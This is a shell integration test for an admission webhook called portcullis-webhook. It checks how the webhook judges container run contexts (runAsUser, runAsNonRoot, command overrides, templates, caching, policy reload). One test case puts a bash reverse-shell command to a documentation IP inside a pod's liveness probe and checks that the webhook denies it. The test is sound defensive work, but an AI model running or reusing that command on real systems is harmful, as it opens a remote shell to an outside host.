# Integration: the webhook judges each container as it will run (issue
# 17): its securityContext over the pod's, command and args. Real
# AdmissionReview bodies over real HTTPS to portcullis-webhook with its
# default policy (restricted), images built here from Debian packages
# (libc6, python3, zlib, expat; fetched into .cache/debs, layered with
# umoci) and pushed with skopeo to a real registry (TLS, htpasswd):
#   noroot    ENTRYPOINT python3 /app/main.py, no USER (runs as root)
#   appuser   the same with USER appuser (uid 1001 in its /etc/passwd)
# Cases: root by default; runAsUser at pod and container level and which
# wins; runAsNonRoot refusals (no USER, a named USER); command replacing
# ENTRYPOINT (missing program / present program) and args keeping it;
# Deployment and CronJob templates; init containers with their own
# securityContext; a run context that cannot be read; the verdict cache
# never answering one run with another's verdict; /mutate pinning fields
# of one image run two ways; UPDATE judging a changed run; ImageReview
# (no pod spec: no run context). Every process started here is killed on
# exit.
. "$PC_ROOT/tests/lib.sh"
harness pki registry webhook
need_tools umoci skopeo dpkg-deb jq
registry_up

# --- images from Debian packages
fetch_all libc6 python3.11-minimal python3-minimal zlib1g libexpat1 # one apt-get for all (each fetch below then finds its .deb)
for p in libc6 python3.11-minimal python3-minimal zlib1g libexpat1; do
    fetch "$p" || { fail "apt-get download $p" "no package"; exit 1; }
done
pass "apt-get download"
L="$T/img"
B="$T/bundle"
RF="$B/rootfs"
umoci init --layout "$L" && umoci new --image "$L:base" && umoci unpack --image "$L:base" "$B" >/dev/null ||
    { fail umoci "init failed"; exit 1; }
for p in libc6 python3.11-minimal python3-minimal zlib1g libexpat1; do
    dpkg-deb -x "$DEBS"/"$p"_*.deb "$RF" || { fail "unpack $p" "dpkg-deb failed"; exit 1; }
done
mkdir -p "$RF/etc" "$RF/app"
printf 'root:x:0:0:root:/root:/bin/sh\nappuser:x:1001:1001::/app:/usr/sbin/nologin\n' >"$RF/etc/passwd"
printf 'root:x:0:\nappuser:x:1001:\n' >"$RF/etc/group"
printf 'print("hello")\n' >"$RF/app/main.py"
chmod 0755 "$RF/app" && chmod 0644 "$RF/app/main.py"
umoci repack --image "$L:base" "$B" >/dev/null && rm -rf "$B" || { fail umoci "repack failed"; exit 1; }
PATHENV=PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
umoci config --image "$L:base" --tag noroot --config.env="$PATHENV" --config.workingdir=/app \
    --config.entrypoint=/usr/bin/python3 --config.entrypoint=/app/main.py &&
    umoci config --image "$L:noroot" --tag appuser --config.user=appuser ||
    { fail "umoci config" "failed"; exit 1; }
for t in noroot appuser; do
    skopeo copy -q --dest-cert-dir "$CERTS" --dest-creds "$USER_NAME:$PASS" "oci:$L:$t" \
        "docker://$R/run/$t:v1" >"$T/push.log" 2>&1 || { fail "push $t" "$(head -c 600 "$T/push.log")"; exit 1; }
done
write_authfile "$R"
NOROOT="$R/run/noroot:v1"
APPUSER="$R/run/appuser:v1"
pass "images built and pushed"

# --- the webhook, its default policy (restricted), a signing key for /mutate
openssl genpkey -algorithm ed25519 -out "$T/sign.key" 2>/dev/null && chmod 0600 "$T/sign.key" ||
    { fail "signing key" "openssl failed"; exit 1; }
webhook_start W --cache-dir "$(fresh_cache)" --tls-cert "$C/server.crt" --tls-key "$C/server.key" --sign-key "$T/sign.key" || exit 1
W=$WH_URL
curl -s --cacert "$C/ca.crt" "$W/readyz" >"$T/out"
jq_true "default policy is restricted" '.ready == true and .policy == "restricted"'

# review UID GROUP KIND OBJECT [OLD]: an AdmissionReview (v1) CREATE of
# OBJECT (JSON), or UPDATE from OLD, into $T/UID.json
review() {
    jq -n --arg uid "$1" --arg g "$2" --arg k "$3" --argjson obj "$4" --argjson old "${5:-null}" \
        '{apiVersion: "admission.k8s.io/v1", kind: "AdmissionReview",
          request: {uid: $uid, kind: {group: $g, version: "v1", kind: $k},
                    name: "web", namespace: "team-a",
                    operation: (if $old == null then "CREATE" else "UPDATE" end),
                    userInfo: {username: "alice"}, object: $obj, oldObject: $old,
                    dryRun: false}}' >"$T/$1.json"
}
# pod UID SPEC: a Pod review with pod spec SPEC (JSON)
pod() {
    review "$1" "" Pod "$(jq -n --argjson s "$2" '{apiVersion: "v1", kind: "Pod",
        metadata: {name: "web", namespace: "team-a"}, spec: $s}')"
}
# ask NAME UID WANT [ENDPOINT]: send $T/UID.json; its answer in $T/out
ask() { send "$1" "$3" "$W/${4:-validate}?timeout=30s" "$T/$2.json"; }
# logged UID FILTER NAME: the decision line logged for UID passes FILTER
logged() {
    jq -s --arg u "$1" '[.[] | select(.msg == "decision" and .uid == $u)][0]' "$T/W.log" >"$T/log.json" 2>/dev/null
    jq_true "$3" "$2" "$T/log.json"
}
c() { jq -n --arg i "$1" --arg n "${2:-app}" '{name: $n, image: $i}'; } # c IMAGE [NAME]: a container

# --- 1: no USER, no securityContext: root
pod c1 "{\"containers\": [$(c "$NOROOT")]}"
ask "1: no USER, no securityContext" c1 deny
jq_true "1: root-user, naming image and container" \
    ".message | contains(\"image \\\"$NOROOT\\\" (container \\\"app\\\")\") and contains(\"root-user\")"
logged c1 '.images[0].effective_user | startswith("0:")' "1: logged effective user 0"

pod c1b "{\"containers\": [$(c "$NOROOT"), $(c "$NOROOT" side), $(c "$NOROOT" other | jq '.securityContext = {runAsUser: 10001}')]}"
ask "1: two containers run the same way, a third another way" c1b deny
jq_true "1: the denial names both containers of the denied run, not the third" \
    '.message | contains("(containers \"app\", \"side\"): ") and (contains("other") | not)'
logged c1b '[.images[] | .verdict] == ["deny", "allow"]' "1: one decision per run"

# --- 2: runAsUser 10001 at pod level, at container level; container over pod
pod c2a "{\"securityContext\": {\"runAsUser\": 10001}, \"containers\": [$(c "$NOROOT")]}"
ask "2: pod runAsUser 10001" c2a allow
jq_true "2: no root-user warning either" '[.warnings[]? | test("root-user")] | any | not'
logged c2a '.images[0].effective_user | startswith("10001:")' "2: logged effective user 10001 (pod level)"
logged c2a '.images[0].user_from == "run" and (.images[0].run_key | startswith("sha256:"))' \
    "2: logged: the user comes from the run, with its run key"
pod c2b "{\"containers\": [$(c "$NOROOT" | jq '.securityContext = {runAsUser: 10001}')]}"
ask "2: container runAsUser 10001" c2b allow
logged c2b '.images[0].effective_user | startswith("10001:")' "2: logged effective user 10001 (container level)"
pod c2c "{\"securityContext\": {\"runAsUser\": 0}, \"containers\": [$(c "$NOROOT" | jq '.securityContext = {runAsUser: 10001}')]}"
ask "2: pod runAsUser 0, container 10001: the container's wins" c2c allow
pod c2d "{\"securityContext\": {\"runAsUser\": 10001}, \"containers\": [$(c "$NOROOT" | jq '.securityContext = {runAsUser: 0}')]}"
ask "2: pod runAsUser 10001, container 0: the container's wins" c2d deny
jq_true "2: container runAsUser 0 is root-user" '.message | contains("root-user")'
logged c2d '.images[0].effective_user | startswith("0:")' "2: logged effective user 0 (container over pod)"

# --- 3: runAsNonRoot without runAsUser on an image without USER
pod c3 "{\"securityContext\": {\"runAsNonRoot\": true}, \"containers\": [$(c "$NOROOT")]}"
ask "3: runAsNonRoot, no runAsUser, no USER" c3 deny
jq_true "3: run-refused says the kubelet refuses to start it, and why" \
    '.message | contains("run-refused") and contains("kubelet refuses to start the container") and contains("no USER") and contains("will run as root")'
pod c3b "{\"securityContext\": {\"runAsNonRoot\": true, \"runAsUser\": 10001}, \"containers\": [$(c "$NOROOT")]}"
ask "3: runAsNonRoot with runAsUser 10001" c3b allow

# --- 4: USER appuser (uid 1001 in its passwd) with runAsNonRoot
pod c4 "{\"securityContext\": {\"runAsNonRoot\": true}, \"containers\": [$(c "$APPUSER")]}"
ask "4: runAsNonRoot, USER appuser, no runAsUser" c4 deny
jq_true "4: the kubelet cannot verify a non-numeric user" \
    '.message | contains("run-refused") and contains("non-numeric") and contains("appuser") and contains("kubelet") and (contains("root-user") | not)'
pod c4b "{\"securityContext\": {\"runAsNonRoot\": true, \"runAsUser\": 1001}, \"containers\": [$(c "$APPUSER")]}"
ask "4: runAsNonRoot with runAsUser 1001" c4b allow
pod c4c "{\"containers\": [$(c "$APPUSER")]}"
ask "4: USER appuser without securityContext" c4c allow
logged c4c '.images[0].effective_user == "1001:1001" and .images[0].user_from == "image"' \
    "4: logged: appuser is 1001:1001, from the image"

# --- 5: command replaces ENTRYPOINT; args keep it
U10001='{"runAsUser": 10001}'
pod c5 "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.command = ["/app/missing"]')]}"
ask "5: command /app/missing" c5 deny
jq_true "5: entrypoint-unrunnable names /app/missing" \
    '.message | contains("entrypoint-unrunnable") and contains("/app/missing") and (contains("root-user") | not)'
pod c5b "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.command = ["/usr/bin/python3", "/app/main.py"]')]}"
ask "5: command /usr/bin/python3 /app/main.py" c5b allow
pod c5c "{\"securityContext\": $U10001, \"containers\": [$(c "$APPUSER" | jq '.command = ["python3", "-c", "print(1)"]')]}"
ask "5: command resolved through PATH" c5c allow
pod c5d "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.args = ["/app/missing"]')]}"
ask "5: args only (/app/missing is an argument: ENTRYPOINT kept)" c5d allow
# the run's own words: the same allowed pod with a reverse shell in its
# liveness probe is denied (its verdict is not the cached one of c5b)
pod c5p "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.command = ["/usr/bin/python3", "/app/main.py"] | .livenessProbe = {exec: {command: ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"]}}')]}"
ask "5: the same run with a reverse shell in its exec probe" c5p deny
jq_true "5: the probe's command is the suspicious-tool finding" '.message | contains("suspicious-tool: the run'"'"'s command line or environment: bash reverse shell")' "$T/out"
pod c5e "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.command = [] | .args = []')]}"
ask "5: empty command and args mean unset" c5e allow
pod c5f "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.env = [{name: "BIN", value: "/app"}] | .command = ["$(BIN)/missing"]')]}"
ask "5: \$(VAR) expanded from env" c5f deny
jq_true "5: the expanded path is judged" '.message | contains("/app/missing")'
pod c5g "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.env = [{name: "BIN", valueFrom: {configMapKeyRef: {name: "m", key: "k"}}}] | .command = ["$(BIN)/python3"]')]}"
ask "5: a valueFrom reference is judged as written" c5g deny
jq_true "5: \$(BIN) left as written" '.message | contains("$(BIN)/python3")'

# --- workloads: Deployment and CronJob templates
tmpl() { jq -n --argjson s "$1" '{metadata: {labels: {app: "web"}}, spec: $s}'; }
DEP_OK=$(jq -n --argjson t "$(tmpl "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT")]}")" \
    '{apiVersion: "apps/v1", kind: "Deployment", metadata: {name: "web"}, spec: {replicas: 1, template: $t}}')
DEP_ROOT=$(jq -n --argjson t "$(tmpl "{\"containers\": [$(c "$NOROOT")]}")" \
    '{apiVersion: "apps/v1", kind: "Deployment", metadata: {name: "web"}, spec: {replicas: 1, template: $t}}')
review d1 apps Deployment "$DEP_OK"
ask "Deployment: template runAsUser 10001" d1 allow
review d2 apps Deployment "$DEP_ROOT"
ask "Deployment: template without securityContext" d2 deny
jq_true "Deployment: root-user" '.message | contains("root-user") and contains("container \"app\"")'
review d3 apps Deployment "$DEP_ROOT" "$DEP_OK"
ask "Deployment UPDATE dropping runAsUser: the new run is judged" d3 deny
review d4 apps Deployment "$DEP_OK" "$DEP_OK"
ask "Deployment UPDATE keeping the run: not judged again" d4 allow
logged d4 '.images == []' "Deployment UPDATE keeping the run: nothing to judge"
cron() {
    jq -n --argjson t "$(tmpl "$1")" '{apiVersion: "batch/v1", kind: "CronJob", metadata: {name: "nightly"},
        spec: {schedule: "0 3 * * *", jobTemplate: {spec: {template: $t}}}}'
}
review j1 batch CronJob "$(cron "{\"restartPolicy\": \"Never\", \"containers\": [$(c "$NOROOT" job | jq '.securityContext = {runAsUser: 10001}')]}")"
ask "CronJob: container runAsUser 10001" j1 allow
review j2 batch CronJob "$(cron "{\"restartPolicy\": \"Never\", \"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" job | jq '.command = ["/app/missing"]')]}")"
ask "CronJob: command /app/missing" j2 deny
jq_true "CronJob: names the container and the program" '.message | contains("container \"job\"") and contains("/app/missing")'

# --- init containers with their own securityContext
INIT_OK=$(c "$NOROOT" init | jq '.securityContext = {runAsUser: 10001} | .command = ["/usr/bin/python3", "-c", "pass"]')
APP_OK=$(c "$NOROOT" | jq '.securityContext = {runAsUser: 10001}')
pod i1 "{\"initContainers\": [$INIT_OK], \"containers\": [$APP_OK]}"
ask "init container runAsUser 10001, app runAsUser 10001" i1 allow
pod i2 "{\"initContainers\": [$(c "$NOROOT" init)], \"containers\": [$APP_OK]}"
ask "init container without securityContext" i2 deny
jq_true "init container named, the app container not" \
    '.message | contains("container \"init\"") and (contains("container \"app\"") | not)'
pod i3 "{\"securityContext\": {\"runAsUser\": 0}, \"initContainers\": [$INIT_OK], \"containers\": [$(c "$NOROOT")]}"
ask "init container 10001 over pod 0, app container pod's 0" i3 deny
jq_true "only the app container is root" '.message | contains("container \"app\"") and (contains("container \"init\"") | not)'

# --- a run context that cannot be read: denied naming the field, not a 500
pod m1 "{\"containers\": [$(c "$NOROOT" | jq '.securityContext = {runAsUser: "10001"}')]}"
ask "malformed runAsUser: denied" m1 deny
jq_true "malformed runAsUser: the message names the field" \
    '.message | contains("spec.containers[0].securityContext.runAsUser: expected an integer") and contains("fail closed")'
pod m2 "{\"containers\": [$(c "$NOROOT" | jq '.workingDir = "app"')]}"
ask "relative workingDir: denied" m2 deny
jq_true "relative workingDir: named" '.message | contains("spec.containers[0].workingDir: not an absolute path")'
review m3 apps Deployment "$(jq -n --argjson t "$(tmpl "{\"securityContext\": {\"supplementalGroups\": \"x\"}, \"containers\": [$(c "$NOROOT")]}")" \
    '{apiVersion: "apps/v1", kind: "Deployment", spec: {template: $t}}')"
ask "malformed pod securityContext in a Deployment: denied" m3 deny
jq_true "the pod-level field named in the template" \
    '.message | contains("spec.template.spec.securityContext.supplementalGroups (pod level, for spec.template.spec.containers[0])")'

# --- the verdict cache is keyed by the run: one image, two pods, cache warm
pod v1 "{\"containers\": [$(c "$NOROOT" | jq '.securityContext = {runAsUser: 10001}')]}"
pod v2 "{\"containers\": [$(c "$NOROOT")]}"
ask "cache: warm with runAsUser 10001" v1 allow
hits=$(metric "$W" portcullis_cache_hits_total)
ask "cache: runAsUser 10001 again" v1 allow
[ "$(metric "$W" portcullis_cache_hits_total)" -gt "$hits" ] && pass "cache: the repeat was a cache hit" ||
    fail "cache: the repeat was a cache hit" "hits stayed $hits"
ask "cache: then no securityContext (same image, another run)" v2 deny
jq_true "cache: the other run's verdict is its own" '.message | contains("root-user")'
ask "cache: runAsUser 10001 once more" v1 allow
logged v2 '.images[0].run_key != null' "cache: the runs' keys logged"
k1=$(jq -s -r '[.[] | select(.msg == "decision" and .uid == "v1")][0].images[0].run_key' "$T/W.log")
k2=$(jq -s -r '[.[] | select(.msg == "decision" and .uid == "v2")][0].images[0].run_key' "$T/W.log")
[ -n "$k1" ] && [ "$k1" != null ] && [ "$k1" != "$k2" ] && pass "cache: two runs, two keys" ||
    fail "cache: two runs, two keys" "$k1 / $k2"

# --- /mutate: one image run two ways, both fields pinned; signed per run
pod x1 "{\"containers\": [$(c "$NOROOT" | jq '.securityContext = {runAsUser: 10001}'), $(c "$NOROOT" side | jq '.securityContext = {runAsUser: 10002}')]}"
curl -s --cacert "$C/ca.crt" -H 'Content-Type: application/json' --data-binary @"$T/x1.json" \
    "$W/mutate?timeout=30s" >"$T/out"
jq_true "/mutate: one image, two runs: allowed with a JSON Patch" \
    '.response.allowed == true and .response.patchType == "JSONPatch"'
jq -r '.response.patch' "$T/out" | base64 -d >"$T/patch.json" 2>/dev/null
NOROOT_D="sha256:$(registry_digest "$NOROOT")"
jq_true "/mutate: both image fields pinned to the digest" \
    "[.[] | select(.op == \"replace\") | .value] == [\"$NOROOT@$NOROOT_D\", \"$NOROOT@$NOROOT_D\"]" "$T/patch.json"
jq '[.[] | select(.op == "add") | .value
     | if type == "string" then . elif has("annotations") then .annotations["portcullis.io/verdicts"]
       else .["portcullis.io/verdicts"] end | fromjson] | .[0]' "$T/patch.json" >"$T/envs.json" 2>/dev/null
jq_true "/mutate: one signed verdict per run" 'length == 2' "$T/envs.json"
jq '[.[] | .payload | @base64d | fromjson | .predicate.run_key]' "$T/envs.json" >"$T/rk.json" 2>/dev/null
jq_true "/mutate: the envelopes name two different run keys" \
    'length == 2 and (.[0] | startswith("sha256:")) and .[0] != .[1]' "$T/rk.json"

# --- ImageReview: no pod spec, so no run context: the image as its config says
jq -n --arg i "$NOROOT" '{apiVersion: "imagepolicy.k8s.io/v1alpha1", kind: "ImageReview",
    spec: {containers: [{image: $i}], namespace: "team-a"}}' >"$T/ir.json"
send "ImageReview: judged with no run context (root)" deny "$W/imagereview" "$T/ir.json"
jq_true "ImageReview: root-user" '.message | contains("root-user")'

webhook_stop "$WH_PID" && pass "webhook: clean exit" || fail "webhook: clean exit" "exit $?"
grep_none "no credentials in the log" -F "$PASS" "$T/W.log"

# --- the policy reloads from disk (issue 19): an edit is picked up by the
# running webhook; a broken edit keeps the last good policy, logs why and
# counts it; the verdict cache is keyed by the policy digest, so no
# verdict of the old policy answers for the new one
printf '{"name": "team-v1", "extends": "restricted"}\n' >"$T/pol.json"
webhook_start R --cache-dir "$(fresh_cache)" --tls-cert "$C/server.crt" --tls-key "$C/server.key" --policy "$T/pol.json" || exit 1
W=$WH_URL
R_PID=$WH_PID
pod r1 "{\"containers\": [$(c "$NOROOT")]}"
ask "reload: before the edit, root-user denies" r1 deny
policy_is() { curl -s --cacert "$C/ca.crt" "$W/readyz" | jq -e --arg p "$1" '.policy == $p' >/dev/null; }
printf '{"name": "team-v2", "extends": "restricted", "checks": {"root-user": {"action": "warn"}}}\n' >"$T/pol.new"
mv "$T/pol.new" "$T/pol.json" # an atomic replace, as a ConfigMap update is
wait_until 15 policy_is team-v2 && pass "reload: the edited policy is picked up" ||
    fail "reload: the edited policy is picked up" "$(curl -s --cacert "$C/ca.crt" "$W/readyz")"
ask "reload: after the edit, root-user only warns" r1 allow
jq_true "reload: the warning says root-user" '[.warnings[]? | test("root-user")] | any'
[ "$(metric "$W" portcullis_policy_reloads_total)" = 1 ] && pass "reload: counted" ||
    fail "reload: counted" "portcullis_policy_reloads_total $(metric "$W" portcullis_policy_reloads_total)"
printf '{"name": "team-v3", "extends": "restricted", "checks": {"root-user": {"actoin": "deny"}}}\n' >"$T/pol.new"
mv "$T/pol.new" "$T/pol.json"
bad_reload() { [ "$(metric "$W" 'portcullis_errors_total{kind="policy_reload"}')" = 1 ]; }
wait_until 15 bad_reload && pass "reload: a broken edit is counted" ||
    fail "reload: a broken edit is counted" "$(metric "$W" 'portcullis_errors_total{kind="policy_reload"}')"
policy_is team-v2 && pass "reload: a broken edit keeps the last good policy" ||
    fail "reload: a broken edit keeps the last good policy" "$(curl -s --cacert "$C/ca.crt" "$W/readyz")"
grep_in "reload: the log says why" 'new files not loaded.*actoin' "$T/R.log"
ask "reload: still judged with the last good policy" r1 allow
printf '{"name": "team-v4", "extends": "restricted"}\n' >"$T/pol.new"
mv "$T/pol.new" "$T/pol.json"
wait_until 15 policy_is team-v4 && pass "reload: a fixed edit is picked up" ||
    fail "reload: a fixed edit is picked up" "$(curl -s --cacert "$C/ca.crt" "$W/readyz")"
ask "reload: the fixed policy denies again (no stale cached verdict)" r1 deny
# audit mode through a reload: allowed silently, logged and counted as would-deny
printf '{"name": "team-audit", "extends": "restricted", "mode": "audit"}\n' >"$T/pol.new"
mv "$T/pol.new" "$T/pol.json"
wait_until 15 policy_is team-audit && pass "audit: picked up" ||
    fail "audit: picked up" "$(curl -s --cacert "$C/ca.crt" "$W/readyz")"
wd0=$(metric "$W" portcullis_scans_would_deny_total)
pod r2 "{\"containers\": [$(c "$NOROOT")]}"
ask "audit: what enforce would deny is allowed" r2 allow
jq_true "audit: silently (no root-user warning)" '[.warnings[]? | test("root-user")] | any | not'
jq -s '[.[] | select(.msg == "decision" and .uid == "r2")][0]' "$T/R.log" >"$T/log.json" 2>/dev/null
jq_true "audit: the decision log says would_deny" '.images[0].would_deny == true' "$T/log.json"
[ "$(metric "$W" portcullis_scans_would_deny_total)" -gt "${wd0:-0}" ] 2>/dev/null &&
    pass "audit: counted in portcullis_scans_would_deny_total" ||
    fail "audit: counted in portcullis_scans_would_deny_total" "$wd0 -> $(metric "$W" portcullis_scans_would_deny_total)"
webhook_stop "$R_PID" && pass "reload webhook: clean exit" || fail "reload webhook: clean exit" "exit $?"
